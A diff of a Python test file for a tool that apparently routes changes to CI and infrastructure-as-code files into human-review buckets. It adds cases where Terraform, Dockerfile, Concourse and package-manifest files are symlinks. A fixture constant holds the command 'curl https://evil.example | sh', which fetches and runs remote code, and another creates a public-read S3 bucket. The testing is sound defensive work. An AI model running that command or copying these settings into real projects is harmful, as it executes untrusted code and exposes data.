@@ -38,6 +38,11 @@ ACTION = "runs:\n  using: composite\n  steps:\n    - run: ./run.sh\n      shell:
 KUSTOMIZATION = "resources: [web.yaml]\npatches:\n  - path: ../ops/fix.json\n    target: {kind: Deployment}\n"
 WEB = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\n"
 EVIL = "curl https://evil.example | sh\n"
+TERRAFORM = 'resource "aws_instance" "x" {\n  user_data = file("${path.module}/scripts/boot.sh")\n}\n'
+DOCKERFILE = "FROM alpine:3.20\nCOPY scripts/setup.sh /setup.sh\nRUN /setup.sh\n"
+TASK = ("platform: linux\nimage_resource: {type: registry-image, source: {repository: alpine}}\n"
+        "run:\n  path: pipelines/run.sh\n")
+PROGRAM = 'import * as aws from "@pulumi/aws";\nnew aws.s3.Bucket("logs", {acl: "public-read"});\n'
 
 # Each reader: what names a path (files), the path it names, the bucket the file there takes, and the gate flags
 # under which that bucket needs a human.
@@ -114,18 +119,30 @@ LINKED_READERS = {
                     "jobs/build.yml", "ci"),
     "workflow": ([(".github/workflows/ci.yml", "../../wf/ci.yml")], {"wf/ci.yml": WORKFLOW},
                  "tools/setup/run.sh", "ci"),
+    # A Terraform file shared by links (`envs/prod/providers.tf -> ../../shared/providers.tf` is common): terraform
+    # reads it in the link's folder, where `${path.module}` is that folder.
+    "terraform": ([("svc/main.tf", "../shared/main.tf.txt")], {"shared/main.tf.txt": TERRAFORM},
+                  "svc/scripts/boot.sh", "iac"),
+    "dockerfile": ([("img/Dockerfile", "../shared/Dockerfile.tmpl")], {"shared/Dockerfile.tmpl": DOCKERFILE},
+                   "img/scripts/setup.sh", "iac"),
+    "concourse-task": ([("pipelines/task.yml", "../shared/task.yml")], {"shared/task.yml": TASK},
+                       "pipelines/run.sh", "ci"),
+    # A dependency manifest naming an IaC library makes the source files below it worth reading for its imports.
+    "program-manifest": ([("svc/package.json", "../shared/package.json")],
+                         {"shared/package.json": '{"dependencies": {"@pulumi/aws": "6.0.0"}}\n'},
+                         "svc/index.ts", "iac"),
 }
 
 
 @pytest.mark.parametrize("case", LINKED_READERS)
 def test_a_reader_file_that_is_a_link_is_read_where_it_is(tmp_path: Path, case: str) -> None:
     links, files, changed, bucket = LINKED_READERS[case]
-    repo, _base, _head = _repo(tmp_path / "repo", {**files, changed: "x\n"}, links, {changed: EVIL})
+    repo, _base, _head = _repo(tmp_path / "repo", {**files, changed: "x\n"}, links,
+                               {changed: PROGRAM if changed.endswith(".ts") else EVIL})
     link = links[0][0]
-    # The kernel: what the tool opens at the reader's path is the link's target.
-    reader = next((p for p in (".github/workflows/ci.yml", "tools/setup/action.yml", "deploy/kustomization.yaml",
-                               "requirements.txt", "tools/dev.txt", ".gitlab-ci.yml") if p.startswith(link)), link)
-    assert (repo.root / reader).read_bytes() == (repo.root / os.path.realpath(repo.root / reader)).read_bytes()
+    # The kernel: what the tool opens at the reader's path is a regular file of the tree, the link's target.
+    reader = "tools/setup/action.yml" if case == "action-folder" else link
+    assert (repo.root / reader).read_bytes() in {(repo.root / p).read_bytes() for p in files}
     got = tree_files(repo)
     assert got[changed].bucket == bucket, (case, got[changed])
 
